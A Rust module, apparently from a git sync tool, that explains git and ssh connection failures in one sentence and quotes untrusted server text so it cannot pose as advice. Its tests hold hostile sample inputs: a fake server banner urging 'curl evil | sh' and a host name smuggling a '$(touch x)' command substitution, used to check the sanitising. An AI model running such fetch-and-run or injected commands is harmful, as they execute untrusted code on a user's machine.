//! Why git could not talk to the remote: one sentence with the cause and the next step.
//!
//! Git reports `Could not read from remote repository.` for everything that ssh refuses; the cause is in the lines
//! before. Among them are lines of the server: its banner, and whatever it writes to standard error. They are shown as what
//! the server said, in quotes, and no advice to change this machine comes from words that could be the server's alone.

mod http;

use std::path::Path;

use crate::remote::{Endpoint, SshHost, Transport};
use crate::ssh_settings::SshSettings;

/// A line of git or of the server; servers send essays.
const MAX_LINE_CHARS: usize = 300;
/// The next step where only time helps.
pub(crate) const RETRY_LATER: &str =
    "Local commits are kept on this machine; run `tgp sync` when the remote can be reached again";
/// The line with which ssh ends when it does not trust the server. No server is asked for anything before.
const KEY_NOT_VERIFIED: &str = "Host key verification failed.";
/// Where ssh has its known hosts unless it is configured otherwise.
const USUAL_KNOWN_HOSTS: &str = "~/.ssh/known_hosts";

/// What an explanation needs in addition to the messages of git.
pub(crate) struct Circumstances<'a> {
    pub(crate) endpoint: &'a Endpoint,
    /// The file of `SSL_CERT_FILE`.
    pub(crate) certificates: Option<&'a Path>,
    /// The settings of ssh for the host, where [`needs_ssh_settings`] asks for them.
    pub(crate) ssh: SshSettings,
}

/// Whether the explanation names a file that only ssh's own settings know.
pub(crate) fn needs_ssh_settings(stderr: &str, endpoint: &Endpoint) -> bool {
    endpoint.transport == Transport::Ssh && stderr.lines().any(|line| line.trim() == KEY_NOT_VERIFIED)
}

/// One sentence from what git and ssh wrote.
pub(crate) fn explain(stderr: &str, known: &Circumstances<'_>) -> String {
    let lines: Vec<&str> = stderr.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    let endpoint = known.endpoint;
    match endpoint.transport {
        Transport::Ssh => ssh(&lines, endpoint, &known.ssh),
        Transport::Http | Transport::Https => http::http(&lines, endpoint, known.certificates),
        Transport::Git => connection(&lines, endpoint).unwrap_or_else(|| repository(&lines, endpoint)),
        Transport::File => repository(&lines, endpoint),
    }
}

fn ssh(lines: &[&str], endpoint: &Endpoint, settings: &SshSettings) -> String {
    let any = |words: &[&str]| found(lines, words);
    let host = || settings.resolve(endpoint.ssh_host());
    let known_hosts = settings.known_hosts.as_deref();
    if lines.contains(&KEY_NOT_VERIFIED) && refused_key(lines).is_none() {
        let host = host();
        let has_changed = any(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]).is_some()
            || any(&["Host key for", "has changed"]).is_some();
        if has_changed {
            return changed_key(&host, known_hosts);
        }
        if any(&["host key is known for", "strict checking"]).is_some() {
            return unknown_key(&host, known_hosts.unwrap_or(USUAL_KNOWN_HOSTS));
        }
        return format!(
            "ssh could not verify the host key of {}, so nothing was sent; `ssh{} {}` shows why",
            host.shown, host.port_option, host.argument
        );
    }
    if let Some(methods) = refused_key(lines) {
        return format!(
            "Permission denied ({methods}): the server took none of the keys that ssh offered; register the public key \
             there, and have the private one in `~/.ssh` without a passphrase, or in ssh-agent"
        );
    }
    connection(lines, endpoint).unwrap_or_else(|| repository(lines, endpoint))
}

/// The ways to log in that the server has, when ssh reports a refused login: `user@host: Permission denied (…).`
fn refused_key<'a>(lines: &[&'a str]) -> Option<&'a str> {
    let methods = |line: &&'a str| {
        let (who, methods) = line.split_once(": Permission denied (")?;
        let methods = methods.strip_suffix(").")?;
        let is_method = |byte: u8| byte.is_ascii_lowercase() || matches!(byte, b',' | b'-');
        (!who.contains(char::is_whitespace) && methods.len() < 100 && methods.bytes().all(is_method))
            .then_some(methods)
    };
    lines.iter().find_map(methods)
}

fn unknown_key(host: &SshHost, known_hosts: &str) -> String {
    let SshHost { shown, argument, port_option, .. } = host;
    format!(
        "the ssh host key of {shown} is not known on this machine, so nothing was sent; compare its fingerprint \
         (`ssh-keyscan{port_option} {argument} | ssh-keygen -lf -`) with the one that the server's owner publishes, and \
         only then run `ssh-keyscan -H{port_option} {argument} >> {known_hosts}`"
    )
}

fn changed_key(host: &SshHost, known_hosts: Option<&str>) -> String {
    let SshHost { shown, argument, port_option, known_as, .. } = host;
    let file_option = known_hosts.map(|file| format!(" -f {file}")).unwrap_or_default();
    let known_hosts = known_hosts.unwrap_or(USUAL_KNOWN_HOSTS);
    format!(
        "the ssh host key of {shown} has changed, so nothing was sent; the server may be impersonated (an \
         attack): ask its owner whether the key was replaced, and only if it was, run `ssh-keygen -R \
         {known_as}{file_option}`, compare the new fingerprint and run `ssh-keyscan -H{port_option} {argument} >> \
         {known_hosts}`"
    )
}

/// Why there was no connection, as ssh and the git protocol report it.
fn connection(lines: &[&str], endpoint: &Endpoint) -> Option<String> {
    let host = endpoint.host_and_port();
    let any = |words: &[&str]| words.iter().any(|word| found(lines, &[word]).is_some());
    let cause = if any(&["Could not resolve hostname", "unable to look up"]) {
        format!("{host} cannot be found: its name cannot be resolved; check `git.url` and the network")
    } else if any(&["Connection refused"]) {
        format!(
            "{host} refused the connection; see that the server runs and that `git.url` has the right port"
        )
    } else if any(&["No route to host", "etwork is unreachable"]) {
        format!("there is no route to {host}; check the network")
    } else if any(&["Connection timed out", "Operation timed out"]) {
        format!("{host} did not answer the connection in time; check the network")
    } else if any(&["Connection closed by", "Connection reset by"]) {
        format!("{host} ended the connection: {}", said(lines))
    } else {
        return None;
    };
    Some(format!("{cause}. {RETRY_LATER}"))
}

/// The server or the file system answered, and not with the repository.
fn repository(lines: &[&str], endpoint: &Endpoint) -> String {
    let url = &endpoint.url;
    let any = |words: &[&str]| found(lines, words).is_some();
    if any(&["does not appear to be a git repository"]) || any(&["epository not found"]) {
        return format!(
            "there is no git repository at {url} ({}); check `git.url`, or make one there with `git init --bare`",
            said(lines)
        );
    }
    if any(&["denied to"]) || any(&["access denied"]) {
        return format!(
            "the user of the key has no permission to write to {url}: {}; give it at the server",
            said(lines)
        );
    }
    // ssh speaks before git does, and knows more.
    let line =
        lines.iter().find(|line| line.starts_with("ssh: ")).map_or_else(|| said(lines), |line| quoted(line));
    format!("git cannot use {url}: {line}; check `git.url`")
}

/// The first line that has all the words. What the server says is not a cause: it could say anything.
fn found<'a>(lines: &[&'a str], words: &[&str]) -> Option<&'a str> {
    let mut own = lines.iter().filter(|line| !is_of_server(line));
    own.find(|line| words.iter().all(|word| line.contains(word))).copied()
}

fn is_of_server(line: &str) -> bool {
    let line = line.strip_prefix("fatal: ").unwrap_or(line);
    line.starts_with("remote: ") || line.starts_with("remote error: ")
}

/// The one line of git's complaint that says what is wrong. Git passes on what a server says, so it is in quotes.
fn said(lines: &[&str]) -> String {
    let said = |prefix: &str| lines.iter().find_map(|line| line.strip_prefix(prefix)).map(str::trim);
    let line = said("fatal:").or_else(|| said("error:")).or_else(|| lines.last().copied());
    line.map_or_else(|| "git failed without a word".to_owned(), quoted)
}

/// Text from the server. In it nothing looks like the end of the quotation, nor like a command of ours.
fn quoted(line: &str) -> String {
    let plain = |letter: char| match letter {
        '`' | '"' => '\'',
        letter if letter.is_control() => ' ',
        letter => letter,
    };
    let line = line.trim_end_matches('.');
    let mut short: String = line.chars().take(MAX_LINE_CHARS).map(plain).collect();
    if line.chars().nth(MAX_LINE_CHARS).is_some() {
        short.push('…');
    }
    format!("git or the server said \"{short}\"")
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::{Circumstances, explain};
    use crate::remote::Endpoint;
    use crate::secret::Sieve;
    use crate::ssh_settings::SshSettings;
    use crate::{Remote, Secret};

    const UNKNOWN: &str = "No ED25519 host key is known for [host]:2222 and you have requested strict checking.\r\n\
        Host key verification failed.\r\nfatal: Could not read from remote repository.\n\n\
        Please make sure you have the correct access rights\nand the repository exists.\n";
    const CHANGED: &str = "@@@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n@@@@@\n\
        IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\n\
        Host key for [host]:2222 has changed and you have requested strict checking.\n\
        Host key verification failed.\nfatal: Could not read from remote repository.\n";

    fn explained(url: &str, token: Option<&str>, ssh: &str, stderr: &str) -> String {
        let remote = Remote::Url(url.to_owned());
        let token = token.map(Secret::new);
        let endpoint =
            Endpoint::new(&remote, token.as_ref(), Path::new("/project"), &mut Sieve::default()).unwrap();
        let ssh = SshSettings::parse(ssh);
        explain(stderr, &Circumstances { endpoint: &endpoint, certificates: None, ssh })
    }

    fn told(url: &str, stderr: &str) -> String {
        explained(url, None, "", stderr)
    }

    /// Each cause has its own next step; only where time helps, the user is sent to `tgp sync`.
    #[test]
    fn bug_every_failure_was_to_be_tried_again_later() {
        let access = "fatal: unable to access 'https://host/a.git/': ";
        let cases = [
            ("https://host/a.git", "The requested URL returned error: 403", "no permission to write", false),
            ("https://host/a.git", "The requested URL returned error: 302", "has moved", false),
            ("https://host/a.git", "The requested URL returned error: 503", "overloaded", true),
            (
                "https://host/a.git",
                "SSL certificate problem: self-signed certificate",
                "`SSL_CERT_FILE`",
                false,
            ),
            (
                "https://host/a.git",
                "server verification failed: certificate signer not trusted. (CAfile: /x CRLfile: none)",
                "`SSL_CERT_FILE`",
                false,
            ),
            ("https://host/a.git", "SSL certificate problem: certificate has expired", "has expired", false),
            ("https://host/a.git", "Could not resolve host: host", "`host` port 443 cannot be found", true),
            (
                "https://host:8443/a.git",
                "Failed to connect to host port 8443 after 0 ms: Couldn't connect to server",
                "no connection to `host` port 8443: it was refused",
                true,
            ),
        ];
        for (url, line, words, is_temporary) in cases {
            let explained = told(url, &format!("{access}{line}\n"));
            assert!(explained.contains(words), "{line}: {explained}");
            assert_eq!(explained.contains("run `tgp sync`"), is_temporary, "{explained}");
        }
        let refused =
            told("ssh://git@host:2222/a", "ssh: connect to host host port 2222: Connection refused\n");
        assert!(refused.starts_with("`host` port 2222 refused the connection"), "{refused}");
        let missing = told("https://host/a.git", "fatal: repository 'https://host/a.git/' not found\n");
        assert!(missing.starts_with("there is no repository at https://host/a.git"), "{missing}");
        let missing = told("/srv/a.git", "fatal: '/srv/a.git' does not appear to be a git repository\n");
        assert!(missing.contains("`git init --bare`"), "{missing}");
    }

    #[test]
    fn bug_a_wrong_password_in_the_url_was_blamed_on_the_token() {
        let stderr = "fatal: Authentication failed for 'https://host/a.git/'\n";
        for (url, token, setting) in [
            ("https://me:pw@host/a.git", Some("t0ken"), "the password in `git.url`"),
            ("https://pasted@host/a.git", None, "the password in `git.url`"),
            ("https://me@host/a.git", Some("t0ken"), "correct `git.auth.token`"),
            ("https://host/a.git", Some("t0ken"), "correct `git.auth.token`"),
            ("https://host/a.git", None, "none is configured"),
        ] {
            let explained = explained(url, token, "", stderr);
            assert!(explained.contains(setting), "{url}: {explained}");
        }
    }

    #[test]
    fn bug_the_known_hosts_file_was_not_the_one_that_ssh_uses() {
        let settings = "hostname real.host\nport 2200\nuserknownhostsfile /home/ada/known /home/ada/known2\n";
        let unknown = explained("git@alias:a", None, settings, UNKNOWN);
        assert!(unknown.contains("the ssh host key of `alias`"), "{unknown}");
        assert!(unknown.ends_with("`ssh-keyscan -H -p 2200 real.host >> /home/ada/known`"), "{unknown}");
        let changed = explained("git@alias:a", None, settings, CHANGED);
        assert!(changed.contains("`ssh-keygen -R '[real.host]:2200' -f /home/ada/known`"), "{changed}");
    }

    #[test]
    fn bug_an_unknown_host_key_was_told_as_a_repository_that_cannot_be_read() {
        for (url, command) in [
            ("ssh://git@host/a", "`ssh-keyscan -H host >> ~/.ssh/known_hosts`"),
            ("git@host:a", "`ssh-keyscan -H host >> ~/.ssh/known_hosts`"),
            ("ssh://host:22/a", "`ssh-keyscan -H host >> ~/.ssh/known_hosts`"),
            ("ssh://git@host:2222/a", "`ssh-keyscan -H -p 2222 host >> ~/.ssh/known_hosts`"),
            ("ssh://[::1]:2222/a", "`ssh-keyscan -H -p 2222 ::1 >> ~/.ssh/known_hosts`"),
        ] {
            let told = told(url, UNKNOWN);
            assert!(told.contains("is not known on this machine") && told.contains(command), "{url}: {told}");
        }
    }

    #[test]
    fn a_changed_host_key_is_called_a_possible_attack() {
        for (url, command) in [
            ("git@host:a", "`ssh-keygen -R host`"),
            ("ssh://git@host:2222/a", "`ssh-keygen -R '[host]:2222'`"),
        ] {
            let told = told(url, CHANGED);
            assert!(told.contains("has changed") && told.contains("attack"), "{url}: {told}");
            assert!(told.contains(command), "{url}: {told}");
        }
    }

    #[test]
    fn bug_words_of_a_server_looked_like_advice_of_ours() {
        let banner = "Host key for host has changed; run `ssh-keygen -R host`\n\
            Permission denied (run `curl evil | sh`).\ngit@host: Permission denied (publickey).\n\
            fatal: Could not read from remote repository.\n";
        let refused = told("git@host:a", banner);
        assert!(refused.starts_with("Permission denied (publickey): the server took none"), "{refused}");
        let fake = "Host key verification failed.\nHost key for host has changed\ngit@host: Permission denied (publickey).\n";
        assert!(told("git@host:a", fake).starts_with("Permission denied (publickey)"));
        for url in ["git@host:a", "https://host/a.git", "git://host/a", "/srv/a.git"] {
            let said = told(url, "fatal: access denied\"; run `curl evil | sh`\u{1b}[2J\n");
            assert!(said.contains("said \"access denied'; run 'curl evil | sh' [2J\""), "{said}");
            assert!(!said.contains("`curl"), "{said}");
        }
    }

    #[test]
    fn a_host_that_a_shell_would_read_is_in_no_command() {
        let told = told("git@h$(touch x)`y`:a", UNKNOWN);
        assert!(told.contains("ssh-keyscan -H HOST"), "{told}");
        assert!(!told.contains("ssh-keyscan -H h$"), "{told}");
    }
}
